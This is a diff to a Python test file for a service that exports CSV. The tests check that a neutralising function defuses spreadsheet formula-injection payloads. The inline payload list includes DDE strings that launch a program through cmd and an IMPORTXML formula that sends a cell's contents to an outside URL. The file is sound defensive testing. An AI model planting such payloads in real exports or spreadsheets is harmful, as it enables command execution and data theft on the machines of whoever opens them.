@@ -13,9 +13,9 @@ from service.domain.spreadsheets import neutralised
 from service.entrypoints.api.exports import CSV_COLUMNS
 from tests.api import Api, Decision
 from tests.builders import request
-from tests.problems import SHARED, hold_problem
+from tests.problems import hold_problem
+from tests.shared import listed
 
-PAYLOADS = SHARED / "vectors" / "csv-injection" / "payloads.json"
 OUR_OWN = (
     "=1+1",
     "+1+1",
@@ -35,15 +35,14 @@ OUR_OWN = (
     "+49 123 456789",
     '"quoted", and; divided\'',
 )
+PAYLOADS = (
+    *OUR_OWN,
+    *(f"{hidden}=1+1" for hidden in ("\t", "\r", "\n", "\0", "a\r\n", '",')),
+    *("=cmd|'/C calc'!'A1'", 'DDE("cmd";"/C calc";"!A0")A0', '=IMPORTXML(CONCAT("https://example.org/",A1),"//a")'),
+    *listed("csv-injection/payloads.json", "payloads"),
+)
 HARMLESS = ("Acme GmbH", "a=b", "'=1+1", "1-2", "x@example.org", "株式会社")
 STARTS = (*"=+-@", *"\uff1d\uff0b\uff0d\uff20")
-
-
-def _vectors() -> list[str]:
-    if not PAYLOADS.exists():
-        pytest.skip(f"the vectors are not at {PAYLOADS}; CHALKLINE_SHARED names the directory that holds them")
-    payloads: list[str] = json.loads(PAYLOADS.read_text())["payloads"]
-    return payloads
 
 
 def _would_run(cell: str) -> bool:
@@ -84,8 +83,9 @@ def test_a_cell_that_would_run_is_neutralised_in_csv_and_whole_in_json(api: Api,
     assert decision == api.get("/v1/decisions", account_id=account)["items"][0]
 
 
+@pytest.mark.shared
 def test_the_known_payloads_never_reach_a_spreadsheet_as_formulas(api: Api) -> None:
-    for number, payload in enumerate(_vectors()):
+    for number, payload in enumerate(PAYLOADS):
         assert not _would_run(neutralised(payload)), payload
         body = request(id=f"payload-{number}", df=12, wrong={"df": payload}, name=payload)
         answer = api.http.post("/v1/classifications", json=body)
